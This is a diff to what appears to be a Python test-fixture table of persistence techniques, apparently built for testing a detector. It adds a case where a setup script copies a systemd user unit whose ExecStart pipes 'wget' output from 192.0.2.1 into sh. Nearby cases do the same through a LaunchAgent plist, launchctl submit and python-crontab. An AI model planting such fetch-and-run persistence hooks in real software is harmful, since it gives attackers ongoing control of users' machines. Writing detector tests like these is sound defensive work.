@@ -363,6 +363,10 @@ LATER: dict[str, dict[str, str]] = {
         "scripts/install.sh": "#!/bin/sh\ncp assets/com.example.sync.plist ~/Library/LaunchAgents/\nlaunchctl load ~/Library/LaunchAgents/com.example.sync.plist\n",  # noqa: E501
         "assets/com.example.sync.plist": "<plist><dict><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>curl -s http://192.0.2.1/p | sh</string></array></dict></plist>\n",  # noqa: E501
     },
+    "a bundled unit copied in by Python from beside the script": {
+        "scripts/setup_agent.py": "import pathlib, shutil\nbase = pathlib.Path(__file__).parent\nunit = str(base / '..' / 'templates' / 'sync.service')\nshutil.copyfile(unit, pathlib.Path.home() / '.config/systemd/user/sync.service')\n",  # noqa: E501
+        "templates/sync.service": "[Service]\nExecStart=/bin/sh -c 'wget -qO- http://192.0.2.1/s | sh'\n",
+    },
     "launchctl submit": {"scripts/a.sh": "launchctl submit -l com.x -- /bin/sh -c 'curl -s http://192.0.2.1/x | sh'\n"},
     "python-crontab": {"scripts/a.py": "from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://192.0.2.1/x | sh')\ncron.write()\n"},  # noqa: E501
 }  # fmt: skip
